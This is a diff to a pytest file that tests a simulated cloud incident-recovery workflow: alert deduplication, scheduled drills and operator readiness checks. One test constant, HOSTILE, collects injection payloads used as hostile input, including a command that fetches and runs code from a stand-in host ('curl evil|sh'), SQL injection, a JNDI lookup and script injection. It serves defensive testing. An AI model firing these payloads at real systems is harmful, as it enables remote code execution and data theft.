@@ -9,7 +9,7 @@ import pytest
 
 from local.simulation.story import Story, iso, sample
 from local.simulation.world import DETECTOR, OWNER, Simulation
-from tests.workflow.playing import MACHINES
+from tests.workflow.scenarios import MACHINES, played
 
 ALL = {
     "guardDuty": {"allow": "request", "types": ["Stealth:IAMUser/*"]},
@@ -24,8 +24,8 @@ ALL = {
 }
 
 
-def ended(story: Story) -> list[tuple[str, str]]:
-    """What became of each execution, and in how many transitions, without retries."""
+def ended(story: Story) -> list[tuple[str, str | None]]:
+    """What became of each execution."""
     found = []
     for one in story.executions():
         output = json.loads(one["output"]) if one.get("output") else {}
@@ -34,6 +34,7 @@ def ended(story: Story) -> list[tuple[str, str]]:
 
 
 def transitions(story: Story, execution_arn: str) -> int:
+    """How many states an execution entered; tries again don't count here."""
     history = story.sim.engine.history(execution_arn)["events"]
     return sum(event["type"].endswith("StateEntered") for event in history)
 
@@ -162,7 +163,7 @@ def test_a_storm_of_what_may_only_tell_tells_once(allow: str) -> None:
         for number in range(20):
             story.send_finding(finding_id=f"{number:032x}")
         sim.run(30)
-        assert sorted(outcome for _, outcome in ended(story)) == ["done", *["ignored"] * 19]
+        assert sorted(str(outcome) for _, outcome in ended(story)) == ["done", *["ignored"] * 19]
         told = sim.messages()
         assert len(told) == 1
         assert f"airlift start --account {OWNER}" in told[0]["Message"]
@@ -205,8 +206,8 @@ def test_only_detectors_reach_the_bus_and_only_what_the_plan_names_is_believed()
 
 
 HOSTILE = (
-    "$(curl evil|sh) `id` '; DROP TABLE x; -- {% $states.input %} ${jndi:ldap://x} <script>alert(1)</script>\n\r\x1b[31m"
-    + "A" * 10_000
+    "$(curl evil|sh) `id` '; DROP TABLE x; -- {% $states.input %} ${jndi:ldap://x} "
+    "<script>alert(1)</script>\n\r\x1b[31m" + "A" * 10_000
 )
 
 
@@ -261,3 +262,18 @@ def test_a_schedule_starts_a_drill() -> None:
         sim.tick(30)
         (recovery,) = story.records("RECOVERY#", "RECOVERY")
         assert (recovery["mode"], recovery["reason"], recovery["firstSign"]) == ("drill", "Scheduled drill", "latest")
+
+
+def test_an_operator_goes_on_from_a_check() -> None:
+    after = played("checked_then_started")
+    assert after.endings() == [("SUCCEEDED", None), ("SUCCEEDED", None)]
+    assert after.recovery["firstSignFrom"] == "the earliest believed sign for this account"
+    assert "readiness checks found" in after.messages[0]["Message"]
+
+
+def test_a_check_that_fails_is_told_of() -> None:
+    after = played("check_fails")
+    assert [status for status, _ in after.endings()] == ["FAILED", "SUCCEEDED"]
+    told = [message["Message"] for message in after.messages if "your decision is needed" in message["Subject"]]
+    assert len(told) == 1
+    assert "could not be checked" in told[0]
